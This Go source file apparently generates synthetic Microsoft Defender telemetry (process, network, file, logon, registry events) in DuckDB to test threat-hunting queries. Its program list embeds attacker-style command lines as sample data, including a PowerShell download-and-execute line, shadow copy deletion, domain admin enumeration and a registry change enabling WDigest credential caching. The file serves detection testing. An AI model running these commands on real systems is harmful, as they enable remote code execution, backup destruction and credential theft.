package synthetic

import (
	"fmt"
	"strings"

	"wirehunt/internal/store/duckdb"
	"wirehunt/schema"
	"wirehunt/schema/defender"
)

// programs are what processes run: of 100 processes weight run command, to
// which each adds a number.
var programs = []struct {
	weight        int
	file, command string
}{
	{38, "svchost.exe", `C:\Windows\System32\svchost.exe -k netsvcs -p -s Service`},
	{24, "chrome.exe", `"C:\Program Files\Browser\chrome.exe" --type=renderer --client-id=`},
	{14, "cmd.exe", `C:\Windows\System32\cmd.exe /c echo `},
	{6, "powershell.exe", `powershell.exe -NoProfile -File C:\Scripts\job.ps1 -Id `},
	{2, "powershell.exe", `powershell.exe IEX (New-Object Net.WebClient).DownloadFile('http://files.example/a.ps1') `},
	{2, "powershell.exe", `powershell.exe -w hidden -enc V3JpdGUtSG9zdCBub3RoaW5nIGF0IGFsbCwgYnV0IG1vcmUgdGhhbiBmaWZ0eSBjaGFyYWN0ZXJzLg==`},
	{2, "regsvr32.exe", `regsvr32.exe /s C:\Users\user\AppData\library.dll `},
	{2, "runas.exe", `runas.exe /user:CORP\admin /savecred cmd.exe `},
	{4, "schtasks.exe", `schtasks.exe /Delete /TN Mysa /F `},
	{2, "taskkill.exe", `taskkill.exe /F /IM service.exe /PID `},
	{2, "net.exe", `net.exe group "domain admin" /do `},
	{1, "wmic.exe", `wmic.exe shadowcopy delete `},
	{1, "reg.exe", `reg.exe add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t DWORD /d 1 `},
}

// programTable returns the statement that makes a table with 100 programs.
func programTable() string {
	var rows []string
	for _, p := range programs {
		for range p.weight {
			rows = append(rows, fmt.Sprintf("(%d, '%s', '%s')", len(rows), p.file, strings.ReplaceAll(p.command, "'", "''")))
		}
	}
	return `CREATE TABLE program AS FROM (VALUES ` + strings.Join(rows, ", ") + `) t(k, file, command)`
}

// Columns of the process that did something, and their values.
const (
	initiating = `, InitiatingProcessFileName, InitiatingProcessCommandLine, InitiatingProcessFolderPath, InitiatingProcessParentFileName,
InitiatingProcessId, InitiatingProcessAccountName, InitiatingProcessAccountDomain, InitiatingProcessSHA1, ReportId`
	initiatingValues = `, ` + initiator + `, 'C:\Windows\' || ` + initiator + ` || ' /start ' || (i % 100), 'c:\windows\' || ` + initiator + `,
(['services.exe', 'explorer.exe', 'userinit.exe'])[1 + i // 11 % 3], i % 20000, (['system', 'alice', 'bob', 'carol', 'local service'])[1 + i // 3 % 5], 'corp', sha1('i' || (i % 300)), i`
	servicePort = `([443, 80, 22, 445, 3389, 53, 8080, 88])[1 + i // 5 % 8]`
	initiator   = `(['explorer.exe', 'services.exe', 'cmd.exe', 'winword.exe', 'excel.exe', 'wmiprvse.exe', 'powershell.exe', 'outlook.exe', 'chrome.exe', 'msiexec.exe'])[1 + i // 7 % 10]`
)

// tableShare says how many of 100 records go to one of Defender's tables.
type tableShare struct {
	table   string
	percent int64
	columns string
	values  string // of row i of n, device d, program g
}

var tableShares = []tableShare{
	{"DeviceProcessEvents", 12, `ActionType, FileName, FolderPath, SHA1, ProcessId, ProcessCommandLine, AccountName, AccountDomain, ProcessIntegrityLevel` + initiating,
		`'ProcessCreated', g.file, 'C:\Windows\System32\' || g.file, sha1('p' || (i % 3000)), i % 30000,
CASE WHEN g.command LIKE '%==' THEN g.command ELSE g.command || (i * 31 % 4000) END, 'user' || (i * 13 % 500), 'corp', (['Low', 'Medium', 'High', 'System'])[1 + i % 4]` + initiatingValues},
	{"DeviceNetworkEvents", 10, `ActionType, RemoteIP, RemotePort, RemoteUrl, LocalIP, LocalPort, Protocol, LocalIPType, RemoteIPType` + initiating,
		`(['ConnectionSuccess', 'ConnectionSuccess', 'ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted'])[1 + i % 5],
CASE WHEN i % 3001 = 5 THEN '185.121.177.177' ELSE '203.0.113.' || (i * 5 // 2 % 250) END, CASE WHEN i % 5 = 4 THEN 50000 + i % 9000 ELSE ` + servicePort + ` END,
CASE i % 4 WHEN 0 THEN 'https://www' || (i * 31 % 3000) || '.example/x' WHEN 1 THEN 'h' || (i * 17 % 90) || CASE WHEN i // 4 % 50 = 0 THEN '.tk' ELSE '.example' END END,
d.ip, CASE WHEN i % 5 = 4 THEN ` + servicePort + ` ELSE 40000 + i * 5 // 2 % 20000 END, 'Tcp', 'Private', 'Public'` + initiatingValues},
	{"DeviceFileEvents", 5, `ActionType, FileName, FolderPath, SHA1, SHA256, FileSize, FileOriginUrl, FileOriginReferrerUrl, AdditionalFields` + initiating,
		`(['FileCreated', 'FileModified', 'FileDeleted', 'FileRenamed'])[1 + i % 4], 'file' || (i * 31 % 9000) || CASE WHEN i % 2003 = 9 THEN '.settingcontent-ms' WHEN i % 5 = 0 THEN '.exe' ELSE '.txt' END,
CASE WHEN i % 700 = 3 THEN 'C:\Windows\System32\spool\drivers\x64\3\' ELSE 'C:\Users\user' || (i % 500) || '\Downloads\' END || 'file' || (i * 31 % 9000) || CASE WHEN i % 5 = 0 THEN '.exe' ELSE '.txt' END,
sha1('f' || (i % 40000)), sha256('f' || (i % 40000)), i * 7919 % 1000003, CASE WHEN i % 3 = 0 THEN 'https://files' || (i % 800) || '.example/f' END, CASE WHEN i % 3 = 0 THEN 'https://www' || (i % 70) || '.example/' END,
CASE WHEN i % 5 = 0 THEN '{"FileType":"PortableExecutable"}' ELSE '{"FileType":"Unknown"}' END` + initiatingValues},
	{"DeviceLogonEvents", 2, `ActionType, LogonType, AccountName, AccountDomain, FailureReason, RemoteIP` + initiating,
		`CASE WHEN i % 6 = 0 THEN 'LogonFailed' ELSE 'LogonSuccess' END, (['Interactive', 'Network', 'RemoteInteractive', 'Unlock'])[1 + i // 6 % 4], 'user' || (i * 13 % 500), 'corp',
CASE WHEN i % 6 = 0 THEN (['InvalidUserNameOrPassword', 'AccountLockedOut', 'PasswordExpired'])[1 + i // 6 % 3] END, '10.0.' || (i % 4) || '.' || (1 + i % 250)` + initiatingValues},
	{"DeviceRegistryEvents", 2, `ActionType, RegistryKey, RegistryValueName, RegistryValueData` + initiating,
		`(['RegistryValueSet', 'RegistryKeyCreated', 'RegistryValueDeleted'])[1 + i % 3],
(['HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run', 'HKEY_CURRENT_USER\Software\Classes\app\shell\open\command', 'HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest', 'HKEY_LOCAL_MACHINE\SOFTWARE\Vendor\Product'])[1 + i // 3 % 4],
CASE WHEN i // 3 % 4 = 2 THEN 'UseLogonCredential' ELSE 'Value' || (i % 40) END, CASE WHEN i // 3 % 4 = 2 THEN '1' WHEN i % 51 = 0 THEN 'C:\Users\u\AppData\Roaming\Microsoft\x.exe $windowsupdate' ELSE 'C:\Tools\t' || (i % 900) || '.exe' END` + initiatingValues},
	{"DeviceImageLoadEvents", 2, `ActionType, FileName, FolderPath, SHA1` + initiating,
		`'ImageLoaded', CASE WHEN i % 501 = 7 THEN 'Iphlpapi.dll' WHEN i % 4001 = 9 THEN 'icmp.dll' ELSE 'library' || (i % 700) || '.dll' END, 'C:\Windows\System32\', sha1('l' || (i % 700))` + initiatingValues},
	{"DeviceEvents", 2, `ActionType, FileName, RemoteUrl, AdditionalFields` + initiating,
		`(['AntivirusScanCompleted', 'AsrOfficeChildProcessAudited', 'AsrLsassCredentialTheftBlocked', 'TamperingAttempt', 'PowerShellCommand', 'PowerShellCommand', 'PowerShellCommand', 'UsbDriveMounted'])[1 + i % 8], 'f' || (i % 90) || '.exe', NULL,
'{"ScanTypeIndex":"Quick","TamperingAction":"Block' || (i % 9) || '","Status":"Blocked","Target":"service' || (i % 60) || '","Manufacturer":"Maker' || (i // 8 % 12) || '","ProductName":"Stick' || (i // 8 % 35) || '"}'` + initiatingValues},
}

// once are tables with few rows for each device.
const once = `INSERT INTO defender_DeviceInfo (Timestamp, DeviceId, DeviceName, OSPlatform, IsInternetFacing, _import)
SELECT %[1]d + r * %[2]d + k, id, 'host' || k || '.example', 'Windows11', k %% 5 = 0, 1 FROM range(30) r(r), device ORDER BY r, k;
INSERT INTO defender_DeviceNetworkInfo (Timestamp, DeviceId, DeviceName, DnsAddresses, _import)
SELECT %[1]d + r * %[2]d + k, id, 'host' || k || '.example', '["203.0.113.' || (k %% 10) || '","10.0.0.53"]', 1 FROM range(30) r(r), device ORDER BY r, k`

// fillTables returns the statements that make Defender's tables: n rows in
// all of shares, and two small tables.
func fillTables(n int64) []string {
	var out []string
	tables := map[string]*schema.Table{}
	for _, t := range defender.All() {
		tables[t.Name] = &t
	}
	for _, s := range tableShares {
		rows := n * s.percent / 100
		out = append(out, duckdb.CreateDefenderTable(tables[s.table]), fmt.Sprintf(`INSERT INTO defender_%s (Timestamp, DeviceId, DeviceName, _import, %s)
SELECT %d + i * (%d // %d), d.id, 'host' || d.k || '.example', 1, %s
FROM range(%d) t(i) JOIN device d ON d.k = i * 5 // 2 * 7919 %% %d JOIN program g ON g.k = (i * 7919 + i // 1000) %% 100 ORDER BY i`,
			s.table, s.columns, int64(base), int64(span), max(rows, 1), s.values, rows, Devices))
	}
	for _, name := range []string{"DeviceInfo", "DeviceNetworkInfo"} {
		out = append(out, duckdb.CreateDefenderTable(tables[name]))
	}
	for s := range strings.SplitSeq(fmt.Sprintf(once, int64(base), int64(span/30)), ";") {
		out = append(out, s)
	}
	return out
}
